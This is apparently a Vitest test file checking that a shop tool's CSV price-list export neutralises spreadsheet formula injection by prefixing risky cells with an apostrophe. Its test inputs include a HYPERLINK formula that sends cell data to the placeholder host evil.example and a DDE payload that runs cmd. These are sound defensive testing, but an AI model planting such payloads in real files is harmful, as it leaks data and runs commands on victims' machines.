/**
 * `prices --format csv`: a cell a spreadsheet would run as a formula is made inert with a leading `'`,
 * and every other cell is written as it is.
 */
import { describe, expect, it } from "vitest";
import { en } from "../../src/messages/en.js";
import { priceList, type PriceListLine } from "../../src/shop/price-list.js";

const line = (name: string, product: string | null = "Game"): PriceListLine => ({
  id: 7,
  category: "Voucher",
  product,
  name,
  selling_price: 15_000,
  per: 1,
  min_order: 1,
  stock: null,
  sold_out: false,
});

const csvOf = (lines: PriceListLine[]) =>
  priceList(
    "csv",
    lines,
    { at: { year: 2026, month: 11, day: 26, hour: 9, minute: 0, zone: "WIB" } as never },
    {
      lang: "en",
      words: en.shop.priceList,
    },
  )
    .split("\r\n")
    .slice(1, -1);

describe("a CSV price list opened in a spreadsheet", () => {
  it.each([
    [
      '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      `7,Voucher,Game,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",15000,,1,1,`,
    ],
    ["+1+1", "7,Voucher,Game,'+1+1,15000,,1,1,"],
    ["-2+3", "7,Voucher,Game,'-2+3,15000,,1,1,"],
    ["@SUM(A1:A9)", "7,Voucher,Game,'@SUM(A1:A9),15000,,1,1,"],
    ["\t=1+1", "7,Voucher,Game,'\t=1+1,15000,,1,1,"],
  ])("%j starts no formula", (name, row) => {
    expect(csvOf([line(name)])).toEqual([row]);
  });

  it("a leading CR is shown as text, and any column is guarded, not only the name", () => {
    expect(csvOf([line("\r=1+1", "=cmd|' /C calc'!A0")])).toEqual([
      "7,Voucher,'=cmd|' /C calc'!A0,\\r=1+1,15000,,1,1,",
    ]);
  });

  it("ordinary names and the numbers are written as they are", () => {
    expect(csvOf([line("Diamond 86 (Mobile Legends)"), line("Netflix, 1 bulan")])).toEqual([
      "7,Voucher,Game,Diamond 86 (Mobile Legends),15000,,1,1,",
      '7,Voucher,Game,"Netflix, 1 bulan",15000,,1,1,',
    ]);
  });
});
